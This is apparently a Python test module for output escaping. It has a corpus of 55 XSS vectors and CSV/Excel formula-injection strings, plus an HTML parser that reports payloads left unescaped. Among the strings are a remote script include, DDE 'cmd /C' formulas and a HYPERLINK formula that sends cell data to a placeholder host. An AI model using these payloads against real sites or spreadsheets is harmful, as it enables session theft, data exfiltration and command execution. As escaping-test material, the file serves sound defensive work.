"""55 script-injection payloads and a check that none became live markup.

Every payload runs ``xss()`` if the browser treats it as markup: as a script
body, an ``on*`` handler, a ``javascript:`` URL or a tag of its own, so a
parse of the page finds any that escaped.
"""

from __future__ import annotations

from html.parser import HTMLParser

VECTORS = [
    "<script>xss()</script>",
    "<SCRIPT SRC=//x/xss.js></SCRIPT>",
    "<img src=x onerror=xss()>",
    '<img src="x" onerror="xss()">',
    "<svg onload=xss()>",
    "<svg><script>xss()</script></svg>",
    "<body onload=xss()>",
    "<iframe src=javascript:xss()>",
    '<a href="javascript:xss()">x</a>',
    "<details open ontoggle=xss()>",
    "<marquee onstart=xss()>",
    "<video><source onerror=xss()>",
    "<audio src onerror=xss()>",
    "<input autofocus onfocus=xss()>",
    "<select autofocus onfocus=xss()>",
    "<textarea autofocus onfocus=xss()>",
    "<object data=javascript:xss()>",
    "<embed src=javascript:xss()>",
    "<math><a xlink:href=javascript:xss()>x</a></math>",
    "<style>@import 'javascript:xss()';</style>",
    '"><script>xss()</script>',
    "'><img src=x onerror=xss()>",
    '" onmouseover="xss()',
    "' onmouseover='xss()",
    "</textarea><script>xss()</script>",
    "</title><script>xss()</script>",
    "</script><script>xss()</script>",
    "<!--<img src=x onerror=xss()>-->",
    "<scr<script>ipt>xss()</scr</script>ipt>",
    "<img src=x onerror=&#120;&#115;&#115;()>",
    "<img src=x oNeRrOr=xss()>",
    "<img/src=x/onerror=xss()>",
    "<svg/onload=xss()//",
    "<div style=x:expression(xss())>",
    "<base href=javascript:xss()//>",
    "<form action=javascript:xss()><button>x</button></form>",
    '<meta http-equiv="refresh" content="0;url=javascript:xss()">',
    "<isindex type=image src=1 onerror=xss()>",
    "<table background=javascript:xss()>",
    '{{ xss() }}<img src=x onerror="xss()">',
    "${xss()}<svg onload=xss()>",
    "\u003cscript\u003exss()\u003c/script\u003e",
    "<script\x0c>xss()</script>",
    "<img src=`x` onerror=xss()>",
    "<a href=JaVaScRiPt:xss()>x</a>",
]
# Spreadsheet formulas are the "script" of CSV and Excel reports.
FORMULAS = [
    '=HYPERLINK("http://x/?"&A1,"xss")<svg onload=xss()>',
    "+xss()<img src=x onerror=xss()>",
    "-2+3+cmd|' /C calc'!A0<script>xss()</script>",
    "@SUM(1+1)*cmd|' /C calc'!A0<svg onload=xss()>",
    "\t=xss()<img src=x onerror=xss()>",
    "\r=xss()<svg onload=xss()>",
    "=1+1<script>xss()</script>",
    "==xss()<img src=x onerror=xss()>",
    "=cmd|'/c calc'!A1<details open ontoggle=xss()>",
    "+cmd|' /C notepad'!'A1'<video><source onerror=xss()>",
]
PAYLOADS = VECTORS + FORMULAS
assert len(PAYLOADS) >= 50  # noqa: S101 - the corpus's own size contract


URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "background",
    "xlink:href",
    "poster",
    "content",
}


class _LiveMarkup(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self._in_script = tag in ("script", "style")
        for name, value in attrs:
            value = (value or "").lower().replace(" ", "")
            url = name in URL_ATTRIBUTES and value.startswith("javascript:")
            if "xss" in value and (name.startswith("on") or url):
                self.found.append(f"<{tag} {name}={value!r}>")
            if "xss" in name:
                self.found.append(f"<{tag} {name}>")
        if "xss" in tag:
            self.found.append(f"<{tag}>")

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script and "xss()" in data:
            self.found.append(f"script: {data[:80]!r}")


def live_payloads(html: str) -> list[str]:
    """The payloads that became markup in ``html`` (empty when all escaped)."""
    parser = _LiveMarkup()
    parser.feed(html)
    parser.close()
    return parser.found


def test_the_checker_finds_an_unescaped_payload():
    assert live_payloads("<p>" + VECTORS[2] + "</p>")
    assert live_payloads("<script>xss()</script>")
    assert live_payloads('<a href="javascript:xss()">x</a>')
    assert not live_payloads("<p>&lt;img src=x onerror=xss()&gt;</p>")
    assert not live_payloads('<div data-json=\'{"a": "javascript:xss()"}\'>')
